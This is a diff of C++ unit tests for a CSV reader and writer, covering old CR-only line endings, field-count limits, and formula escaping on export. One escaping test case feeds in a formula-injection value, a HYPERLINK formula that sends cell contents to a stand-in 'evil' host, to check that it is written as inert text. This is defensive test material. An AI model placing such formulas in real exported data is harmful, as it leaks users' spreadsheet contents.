@@ -1,6 +1,11 @@
 // The MAC spellings administrators use, and CSV as spreadsheets write it.
 #include <gtest/gtest.h>
 
+#include <span>
+#include <string>
+#include <utility>
+#include <vector>
+
 #include "csv.h"
 #include "mac.h"
 
@@ -81,4 +86,60 @@ TEST(Csv, WrittenFieldsReadBack) {
     EXPECT_EQ(out.substr(0, out.size() / 2),
               "plain,,\"a,b\",\"a;b\",\"q\"\"q\",\"cr\rlf\n\", pad ,Ж''\r\n");
     EXPECT_EQ(parsed(out), (std::vector<csv::Row>{fields, fields}));
+}
+
+TEST(Csv, OldSpreadsheetsEndLinesWithCrAlone) {
+    const std::vector<csv::Row> expected = {{"name", "USERN"}, {"a", "two\rlines"}, {"b", ""}};
+    EXPECT_EQ(parsed("name,USERN\ra,\"two\rlines\"\rb,\r"), expected);
+    EXPECT_EQ(parsed("name;USERN\ra;\"two\rlines\"\rb;"), expected);
+    // Each CR LF is one line end, and a CR before a LF is no empty line.
+    EXPECT_EQ(parsed("a\r\rb\r\n\nc"), (std::vector<csv::Row>{{"a"}, {""}, {"b"}, {""}, {"c"}}));
+}
+
+TEST(Csv, FormulasAreWrittenAsTextAndReadBack) {
+    const std::vector<std::pair<std::string, std::string>> cases = {
+        {"=HYPERLINK(\"http://evil/?\"&C2,\"x\")",
+         "\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"x\"\")\""},
+        {"+1", "'+1"},
+        {"-1", "'-1"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tx", "'\tx"},
+        {"\r=x", "\"'\r=x\""},
+        {"'", "''"},
+        {"'q", "''q"},
+        {"=a,b", "\"'=a,b\""},
+        {"a=b", "a=b"},
+        {" =a", " =a"},
+        {"", ""},
+    };
+    for (const auto& [field, written] : cases) {
+        std::string out;
+        csv::appendMarkedField(out, field);
+        EXPECT_EQ(out, written) << field;
+        const auto rows = parsed(out);
+        const std::string cell = rows.empty() || rows[0].empty() ? "" : rows[0][0];
+        EXPECT_EQ(csv::withoutTextMark(cell), field) << field;
+    }
+    // A lone quote has nothing after it to mark.
+    EXPECT_EQ(csv::withoutTextMark("'"), "'");
+    EXPECT_EQ(csv::withoutTextMark("=x"), "=x");
+}
+
+TEST(Csv, FieldsPastTheLimitAreReadButNotKept) {
+    const std::string text = "a,b,c,,\"x\"\"y\",\n1,2\n,,,,,,,,\n\"p\"\"q\",\"r\"\"s\",,t\n";
+    csv::Reader reader(text, 2);
+    std::span<const std::string_view> fields;
+    std::vector<std::pair<csv::Row, std::size_t>> records;
+    while (reader.next(fields))
+        records.push_back({csv::Row(fields.begin(), fields.end()), reader.filledBeyond()});
+    EXPECT_FALSE(reader.error());
+    EXPECT_EQ(records,
+              (std::vector<std::pair<csv::Row, std::size_t>>{
+                  {{"a", "b"}, 3}, {{"1", "2"}, 0}, {{"", ""}, 0}, {{"p\"q", "r\"s"}, 4}}));
+    // A broken field past the limit is an error all the same.
+    csv::Reader broken("a,b,c,\"d\n", 2);
+    while (broken.next(fields)) {
+    }
+    ASSERT_TRUE(broken.error());
+    EXPECT_EQ(broken.error()->message, "a quoted field is not closed");
 }
